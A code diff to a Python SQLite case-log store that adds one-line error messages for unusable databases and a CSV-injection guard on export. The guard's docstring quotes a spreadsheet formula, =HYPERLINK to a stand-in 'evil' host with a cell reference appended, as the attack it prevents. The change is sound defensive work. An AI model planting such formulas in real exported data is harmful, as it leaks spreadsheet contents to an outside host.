@@ -42,6 +42,7 @@ from PIL import Image
 VERDICTS = ("agree", "disagree", "ungradable")
 BUSY_TIMEOUT_MS = 30_000
 THUMBNAIL_MAX_SIDE = 256
+CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 # Columns returned by search()/exports (the blobs are left out).
 LIST_COLUMNS = [
@@ -54,6 +55,22 @@ LIST_COLUMNS = [
 
 class StoreError(ValueError):
     """Bad input to the store (one line, safe to show to a user)."""
+
+
+def _unavailable(e: sqlite3.Error) -> str:
+    """One line for a database the operating system will not let us use; a write was rolled back whole."""
+    msg = str(e).lower()
+    if "readonly" in msg or "read-only" in msg:
+        why = "the case log is read-only"
+    elif "full" in msg or "disk i/o" in msg:
+        why = "the case log's disk is full or failing"
+    elif "unable to open" in msg:
+        why = "the case log cannot be opened (read-only, full or missing folder)"
+    elif "locked" in msg or "busy" in msg:
+        why = "the case log is busy"
+    else:
+        why = f"the case log cannot be used ({' '.join(str(e).split())[:120]})"
+    return f"Case log unavailable: {why}; nothing was changed. Analyses still work; save again once it is fixed."
 
 
 def utc_now() -> str:
@@ -178,14 +195,17 @@ class CaseStore:
     # -- connections and transactions
     @contextlib.contextmanager
     def _connect(self) -> Iterator[sqlite_utils.Database]:
-        conn = sqlite3.connect(str(self.path), timeout=BUSY_TIMEOUT_MS / 1000, isolation_level=None,
-                               check_same_thread=False)
         try:
-            conn.execute(f"PRAGMA busy_timeout={BUSY_TIMEOUT_MS}")
-            conn.execute("PRAGMA foreign_keys=ON")
-            yield sqlite_utils.Database(conn)
-        finally:
-            conn.close()
+            conn = sqlite3.connect(str(self.path), timeout=BUSY_TIMEOUT_MS / 1000, isolation_level=None,
+                                   check_same_thread=False)
+            try:
+                conn.execute(f"PRAGMA busy_timeout={BUSY_TIMEOUT_MS}")
+                conn.execute("PRAGMA foreign_keys=ON")
+                yield sqlite_utils.Database(conn)
+            finally:
+                conn.close()
+        except sqlite3.OperationalError as e:  # full disk, read-only file, lost folder: one line, not a traceback
+            raise StoreError(_unavailable(e)) from None
 
     @contextlib.contextmanager
     def _write(self) -> Iterator[sqlite_utils.Database]:
@@ -370,6 +390,17 @@ class CaseStore:
                 f"select distinct {column} from cases where {column} is not null order by {column}")]
 
     # -- export and agreement
+    @staticmethod
+    def csv_safe(value: Any) -> Any:
+        """A text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is prefixed with '.
+
+        Reviewer notes, names and labels are typed by users; opened in Excel or LibreOffice, a note such as
+        ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run (OWASP "CSV injection").
+        """
+        if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
+            return "'" + value
+        return value
+
     def export_csv(self, path: str | Path, rows: list[dict] | None = None) -> Path:
         rows = self.search(limit=None) if rows is None else rows
         path = Path(path)
@@ -377,7 +408,7 @@ class CaseStore:
             w = csv.DictWriter(fh, fieldnames=LIST_COLUMNS, extrasaction="ignore")
             w.writeheader()
             for r in rows:
-                w.writerow({k: r.get(k) for k in LIST_COLUMNS})
+                w.writerow({k: self.csv_safe(r.get(k)) for k in LIST_COLUMNS})
         return path
 
     def export_json(self, path: str | Path, rows: list[dict] | None = None, with_history: bool = True) -> Path:
